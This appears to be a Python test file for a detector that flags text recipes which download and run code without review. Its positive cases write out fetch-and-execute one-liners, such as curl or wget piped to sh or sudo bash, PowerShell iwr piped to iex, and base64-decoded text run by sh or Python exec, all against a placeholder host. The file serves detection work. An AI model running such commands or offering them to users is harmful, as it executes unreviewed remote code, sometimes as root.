"""Recipes that run unread code."""

from __future__ import annotations

from support.each import each

from gitmem.text.hazards.hazard import find_downloads


@each(
    ("text", "message"),
    [
        ("Run it:\ncurl -fsSL https://x.example/i.sh | sudo bash", "downloads a script and runs it as root"),
        ("\nwget -qO- https://x.example/i.sh \\\n  | sh", "downloads a script and runs it"),
        ("\nbash <(curl -s https://x.example/i.sh)", "downloads a script and runs it"),
        ('\nsh -c "$(curl -fsSL https://x.example/i.sh)"', "downloads a script and runs it"),
        ("\ncurl -o i.sh https://x.example/i.sh && chmod +x i.sh && ./i.sh", "downloads a script and runs it"),
        ("\niwr https://x.example/i.ps1 | iex", "downloads a script and runs it"),
        ("\necho Y3VybA== | base64 -d | sh", "runs an encoded text"),
        ("\npython -c \"exec(__import__('base64').b64decode('eA=='))\"", "runs an encoded text"),
    ],
)
def test_recipe_that_runs_what_no_one_read_is_found(text: str, message: str) -> None:
    assert find_downloads(text) == [(2, message)]


@each(
    "text",
    [
        "curl -fsSL https://x.example/data.json | jq .version",
        "curl -O https://x.example/a.tar.gz",
        "Use `make install | tee log`, then bash.",
        "base64 -d key.txt > key.bin",
    ],
)
def test_download_that_runs_nothing_is_not_found(text: str) -> None:
    assert find_downloads(text) == []
